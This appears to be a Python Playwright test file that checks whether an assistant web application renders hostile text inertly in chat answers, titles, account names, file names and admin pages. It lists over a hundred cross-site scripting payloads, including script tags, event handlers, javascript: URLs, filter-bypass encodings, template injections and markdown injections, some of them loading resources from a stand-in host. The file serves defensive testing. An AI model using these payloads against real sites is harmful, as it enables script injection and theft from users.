"""R-36: text that would like to be a script, wherever text from outside is shown, in a real browser: it stays text."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from account_fakes import PASSWORD, Desk, desk_over
from browsing import product_over, site_over
from playwright.sync_api import Browser, BrowserContext, Page
from test_journey_chat import browser
from test_ui_accounts import KEYS
from test_ui_render import an_answer

from assistant.accounts import store
from assistant.accounts.account import Account, Role, State
from assistant.accounts.tokens import new_id
from assistant.answers.answer import Removed, Sentence
from assistant.answers.events import Event, Step, Told
from assistant.assistant import Assistant
from assistant.conversations.conversations import Conversations
from assistant.conversations.opinions import Opinions
from assistant.evaluations import CaseForm
from assistant.library import Request
from assistant.uploads.holdings import Holdings
from assistant.uploads.settings import UploadSettings
from assistant.uploads.upload import UploadRefused, Who
from evals.case import CaseError
from evals.desk import open_desk
from ui.visits import Door

__all__ = ["browser"]
OUT = "https://canari.invalid/parti"
CALL = "canari()"
HOOK = """
window.ran = [];
window.canari = (why) => { window.ran.push(String(why)); };
for (const name of ["alert", "prompt", "confirm"]) window[name] = () => { window.ran.push(name); };
document.addEventListener("securitypolicyviolation", (event) => window.ran.push(event.violatedDirective));
"""
EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin")
"""Of elements that call them without being touched, or when the page is looked at."""
SCHEMES = ("javascript:canari()", "JaVaScRiPt:canari()", "java\tscript:canari()", "&#106;avascript:canari()")
SCHEMES += ("vbscript:canari()", "data:text/html,<script>parent.canari()</script>", "\x01javascript:canari()")
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC={OUT}.js></SCRIPT>",
    f"<script type=module>import '{OUT}.js'</script>",
    f"<script/x>{CALL}</script >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img src={OUT}.png>",
    f"<img srcset='{OUT}.png 2x'>",
    f"<picture><source srcset={OUT}.webp><img></picture>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href={OUT}.svg></svg>",
    f"<svg><use href='{OUT}.svg#x'></use></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={OUT}></iframe>",
    f"<object data={OUT}></object>",
    f"<embed src={OUT}>",
    f"<video src={OUT}.mp4 autoplay onloadstart={CALL}></video>",
    f"<audio src=x onerror={CALL} autoplay></audio>",
    f"<video><source onerror={CALL}></video>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<link rel=stylesheet href={OUT}.css>",
    f"<link rel=prefetch href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<form action={OUT} id=f><input autofocus></form><script>f.submit()</script>",
    f"<style>@import '{OUT}.css'; *{{background:url({OUT}.gif)}}</style>",
    f"<div style=\"background-image:url('{OUT}.gif')\">x</div>",
    f"<div style='animation:spin 1s' onanimationstart={CALL}>x</div>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<title></title><img src=x onerror={CALL}>",
    f"<xmp><p title='</xmp><svg onload={CALL}>'>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{CALL}</h:script></x>",
    "<a href=x id=ran name=ran>x</a><form id=canari><input name=ran></form>",
    f"<img src=x:x onerror\n=\n{CALL}>",
    f"<img src=`x` onerror=`{CALL}`>",
    f"<img/src='x'/onerror={CALL}//",
    f"<img src=x onerror={CALL}",
    f"<<img src=x onerror={CALL}>>",
)
BROKEN_OUT = (
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f'" autofocus onfocus={CALL} x="',
    f"' onmouseover='{CALL}",
    f"</textarea><img src=x onerror={CALL}>",
    f"</title><img src=x onerror={CALL}>",
    f"</style><img src=x onerror={CALL}>",
    f"</script><script>{CALL}</script>",
    f"</pre></article></section><iframe src=javascript:parent.{CALL}></iframe>",
    f'\\"}};{CALL};//',
    f"';{CALL};'",
    f"`-{CALL}-`",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{{7*7}}{% debug %}{{config}}",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    f"\u2028{CALL}\u2029",
    "\u202e>)(iranac=rorreno x=crs gmi<\u202c",
    f"\u2066<img src=x onerror={CALL}>\u2069",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&#x3C;script&#x3E;{CALL}&#x3C;/script&#x3E;",
    f"<img src=x one\u0301rror={CALL}>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
)
MARKDOWN = (
    f"![x]({OUT}.png)",
    f"![x][r]\n\n[r]: {OUT}.png",
    f'[x]({OUT} "{CALL}")',
    f"<{OUT}>",
    f"[x](javascript:{CALL})",
    f"[x](<javascript:{CALL}>)",
    f"[x][j]\n\n[j]: javascript:{CALL}",
    f"```html\n<img src=x onerror={CALL}>\n```",
    f"# x\n\n<script>{CALL}</script>\n\n| a |\n|---|\n| <img src=x onerror={CALL}> |",
    f"$$\\href{{javascript:{CALL}}}{{x}}$$ \\(\\url{{{OUT}}}\\)",
    f'```mermaid\ngraph TD;A["<img src=x onerror={CALL}>"]\n```',
    f"- [ ] <details open ontoggle={CALL}>",
)
PAYLOADS = (
    *ELEMENTS,
    *BROKEN_OUT,
    *MARKDOWN,
    *(f'<a href="{scheme}" autofocus>x</a>' for scheme in SCHEMES),
    *(f"<b tabindex=1 autofocus style='display:block' {event}={CALL}>x</b>" for event in EVENTS),
)
SET = "hostile"


class Obeying:
    """The product, whose model says whatever the question says: what its checks would have removed is shown here."""

    def __init__(self, assistant: Assistant, payloads: Sequence[str]) -> None:
        self._assistant, self._payloads = assistant, payloads

    def __getattr__(self, name: str) -> Any:
        return getattr(self._assistant, name)

    def ask_stream(self, question: str, *_: Any, **__: Any) -> Iterator[Event]:
        """A sentence, a removed one and a proof that each are, or bear the title of, what was asked."""
        document = f"doc{next(at for at, one in enumerate(self._payloads) if one.strip() == question)}"
        text = self._assistant.text(document)
        base = an_answer(question=question, understood_as=f"{question} ?")
        citation = replace(
            base.citations[0], document=document, title=question, quote=text, start=0, end=len(text), page=None
        )
        said = Sentence(question, "supported", (1,))
        yield Step("search")
        yield Told(said, citation)
        yield replace(
            base, sentences=(said,), citations=(citation,), passages=(), removed=(Removed(question, question),)
        )


@dataclass
class Watch:
    """What must not happen: dialogs, requests to anywhere else, requests that a payload names."""

    address: str
    wrong: list[str] = field(default_factory=list)

    def over(self, context: BrowserContext) -> Page:
        """A page whose every step is watched."""
        context.add_init_script(HOOK)
        page = context.new_page()
        page.set_default_timeout(250_000)
        page.on("dialog", lambda it: (self.wrong.append(f"dialog {it.message}"), it.dismiss()))
        page.on("request", self._asked)
        return page

    def _asked(self, request: Any) -> None:
        ours = request.url.startswith((self.address + "/", "data:", "blob:"))
        if not ours or "canari" in request.url or request.url.rstrip("/").endswith(("/x", "/x:x")):
            self.wrong.append(f"request {request.url}")

    def look(self, page: Page, where: str) -> None:
        """Touch what could be touched, then see that nothing has run."""
        page.mouse.move(300, 300)
        page.wait_for_timeout(100)
        self.wrong += [f"{where}: {what}" for what in page.evaluate("window.ran instanceof Array ? window.ran : ['?']")]


@contextmanager
def site(payloads: Sequence[str], folder: Path, data: Path) -> Iterator[str]:
    """The application where documents, files, people, cases and opinions are named by payloads; its address."""
    lines = [
        {"id": f"doc{at}", "title": one, "text": f"{one}\n\nLe sommet se tient en {2000 + at}.", "lang": "fr"}
        for at, one in enumerate(payloads)
    ]
    listed = folder / "listed.jsonl"
    listed.write_text("\n".join(json.dumps(line) for line in lines), "utf-8")
    with (
        product_over(data, Request((), listed)) as assistant,
        desk_over(f"sqlite:///{folder / 'accounts.db'}", folder, questions_minutely=10_000) as desk,
        closing(open_desk(assistant, folder / "evals")) as evaluations,
    ):
        desk.member("cheffe", Role.ADMINISTRATOR)
        chief = desk.account("cheffe")
        holdings = Holdings(assistant, desk.opened.parts.database, folder, UploadSettings(), desk.clock)
        who = Who(chief.id, chief.identifier, desk.actor("cheffe"), None)
        for at, one in enumerate(payloads):
            _named(desk, at, one)
            holdings.refuse(who, f"{one}.pdf", UploadRefused("too-large"))
            with suppress(CaseError):  # one with a control character is refused at the door
                evaluations.accept(CaseForm(one, "fr", note=one, refuse="far"), SET)
        kept = Conversations(desk.opened.parts.database, desk.clock)
        for one in payloads:
            told = an_answer(question=one, understood_as=one)
            id = kept.keep(chief.id, "", 1, told)
            Opinions(desk.opened.parts.database, kept, desk.clock).give(chief.id, id, 1, False, "incomplete", one)
        door = Door(desk.opened, KEYS)
        obeying: Any = Obeying(assistant, payloads)
        with site_over(obeying, door, holdings=holdings, evaluations=evaluations) as address:
            yield address


def _named(desk: Desk, at: int, payload: str) -> None:
    """Somebody whose name and address are a payload, as no form would let them be."""
    account = Account(new_id(), f"{at}{payload}", f"{payload}@{at}", Role.READER, State.PENDING, "fr", at, None)
    with desk.opened.parts.database.writing() as connection:
        assert store.add(connection, account, None, False)


PAGES = ("/admin", "/admin/log", "/admin/mail", "/admin/state", "/bibliotheque", "/bibliotheque/document?id=doc0")
PAGES += ("/documents/doc0", "/documents/doc1", "/evaluations", f"/evaluations/sets/{SET}", "/conversations")
Site = Callable[[Sequence[str]], str]


@pytest.mark.parametrize(
    "count",
    [pytest.param(count, marks=[pytest.mark.nightly, pytest.mark.timeout(1800)]) for count in (10, len(PAYLOADS))],
)
def test_hostile_text_is_shown_as_text_everywhere(
    browser: Browser, short_folders: Callable[[], Path], tmp_path: Path, count: int
) -> None:
    """As a title, a file, a name, an address, a question, a model's words: no dialog, no request, no script."""
    step = len(PAYLOADS) // count
    payloads = PAYLOADS[::step][:count]
    with site(payloads, tmp_path, short_folders()) as address, closing(browser.new_context()) as context:
        watch = Watch(address)
        page = watch.over(context)
        page.goto(f"{address}/account/login")
        page.fill("input[name=name]", "cheffe")
        page.fill("input[name=password]", PASSWORD)
        page.press("input[name=password]", "Enter")
        page.wait_for_selector(".empty")
        for number, payload in enumerate(payloads, 1):
            page.fill("#question textarea", payload)
            page.press("#question textarea", "Enter")
            page.wait_for_selector(f"#turn-{number}:is(.answered, .failed)")
            page.locator(f".cite.at-{number}-1").first.click()
            page.wait_for_selector("#proof .proof")
            watch.look(page, f"chat {payload!r}")
        assert page.locator(".turn.answered").count() == min(len(payloads), 30)
        for path in PAGES:
            page.goto(address + path)
            watch.look(page, path)
        assert "canari" in page.content()
        assert watch.wrong == []


def test_a_script_that_does_run_is_noticed(browser: Browser, short_folders: Callable[[], Path], tmp_path: Path) -> None:
    """The watch itself, on a page that shows a payload as it is."""
    with closing(browser.new_context()) as context:
        watch = Watch("http://ours.invalid")
        page = watch.over(context)
        page.route("**/*", lambda route: route.fulfill(body=f"{PAYLOADS[5]}{PAYLOADS[6]}", content_type="text/html"))
        page.goto("http://ours.invalid/")
        watch.look(page, "here")
        assert any("canari.invalid" in one for one in watch.wrong)
        assert any(one.startswith("here") for one in watch.wrong)


def test_there_are_a_hundred_payloads_and_no_two_are_alike() -> None:
    """As many as the requirement asks."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100
